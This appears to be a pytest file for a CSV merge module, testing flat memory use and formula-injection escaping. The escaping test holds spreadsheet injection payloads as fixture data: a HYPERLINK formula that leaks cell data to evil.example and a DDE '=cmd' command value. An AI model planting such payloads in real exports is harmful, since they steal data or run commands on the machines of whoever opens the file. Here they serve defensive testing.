"""The fan-out's merge streams: its memory does not grow with the rows merged (measured, never timed)."""

from __future__ import annotations

import csv
import tracemalloc
from pathlib import Path

from courier.pages.fanout import merge_parts, peak_rss

MIB = 1024 * 1024


def _parts(folder: Path, rows_per_part: int) -> list[tuple[str, list[str]]]:
    """Two part CSVs with different columns (the merge takes their union), ``rows_per_part`` rows each."""
    parts = []
    for index, columns in enumerate((["id", "name", "value"], ["id", "value", "flag"])):
        path = folder / f"part-{index}.csv"
        with path.open("w", newline="") as stream:
            writer = csv.writer(stream, lineterminator="\n")
            writer.writerow(columns)
            for row in range(rows_per_part):
                writer.writerow([f"{index}-{row}", f"name {row} " * 3, row * 7, "x"][: len(columns)])
        parts.append((path.as_uri(), columns))
    return parts


def _merge_peak(folder: Path, rows_per_part: int) -> tuple[int, int]:
    """(rows merged, the most Python memory the merge held at once, in bytes)."""
    folder.mkdir()
    parts = _parts(folder, rows_per_part)
    tracemalloc.start()
    try:
        rows, _ = merge_parts(parts, (folder / "report.csv").as_uri())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return rows, peak


def test_merge_memory_stays_flat_when_the_rows_grow_tenfold(tmp_path: Path) -> None:
    """The merge holds a row at a time, not a part or the report: 10x the rows (a ~3 MB report) take no
    more memory than a bounded buffer, the same as 1x within noise."""
    rows_small, peak_small = _merge_peak(tmp_path / "small", 3_000)
    rows_large, peak_large = _merge_peak(tmp_path / "large", 30_000)
    report = (tmp_path / "large" / "report.csv").stat().st_size
    assert (rows_small, rows_large) == (6_000, 60_000)
    assert report > 2.5 * MIB
    assert peak_large < 1 * MIB, f"merging {rows_large} rows held {peak_large / MIB:.1f} MiB at once"
    assert peak_large < 1.5 * peak_small + 256 * 1024, (peak_small, peak_large)


def test_peak_rss_is_the_blocks_own_peak() -> None:
    """A large allocation freed before the block does not count; one made inside it does."""
    before_block = bytearray(96 * MIB)
    before_block[::4096] = b"x" * len(before_block[::4096])  # touched: resident
    del before_block
    with peak_rss() as memory:
        inside = bytearray(48 * MIB)
        inside[::4096] = b"y" * len(inside[::4096])
        del inside
    before, peak = memory["rss_before_bytes"], memory["peak_rss_bytes"]
    assert before is not None and peak is not None, "Linux exposes /proc/self/clear_refs and VmHWM"
    assert 40 * MIB <= peak - before < 90 * MIB, (before / MIB, peak / MIB)


def test_stored_csvs_carry_no_formula(tmp_path: Path) -> None:
    """Security review #23, L3: upstream text that a spreadsheet would run as a formula is stored as text
    (a ``'`` in front), in the part files and the merged report; JSON numbers stay numbers."""
    from courier.pages import records as to_csv
    from courier.pages.records import csv_writer, write_records

    records = [
        {"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "delta": -5, "note": "-2+3"},
        {"id": 2, "name": "+1", "delta": 1.5, "note": "@SUM(A1:A9)", "=cmd|' /C calc'!A0": "\tx"},
        {"id": 3, "name": "plain", "delta": 0, "note": "-", "=cmd|' /C calc'!A0": "ok"},
    ]
    parts = []
    for index, chunk in enumerate((records[:1], records[1:])):
        columns = list(dict.fromkeys(key for record in chunk for key in record))
        path = tmp_path / f"part-{index}.csv"
        with path.open("w", newline="") as stream:
            write_records(csv_writer(stream, columns), chunk)
        parts.append((path.as_uri(), columns))
    rows, _ = merge_parts(parts, (tmp_path / "report.csv").as_uri())
    assert rows == 3
    for name in ("part-1.csv", "report.csv"):
        with (tmp_path / name).open(newline="") as stream:
            table = list(csv.reader(stream))
        cells = [c for row in table for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2")], (name, table)
        assert "'=cmd|' /C calc'!A0" in table[0], table[0]
    with (tmp_path / "report.csv").open(newline="") as stream:
        report = list(csv.DictReader(stream))
    assert [r["delta"] for r in report] == ["-5", "1.5", "0"]  # numbers untouched
    assert [r["note"] for r in report] == ["'-2+3", "'@SUM(A1:A9)", "'-"]
    assert report[0]["name"].startswith("'=HYPERLINK(") and report[2]["name"] == "plain"
    guard = to_csv.text_cell  # type: ignore[attr-defined,unused-ignore]
    assert guard("\r=1") == "'\r=1" and guard("\t=1") == "'\t=1" and guard("a=1") == "a=1"
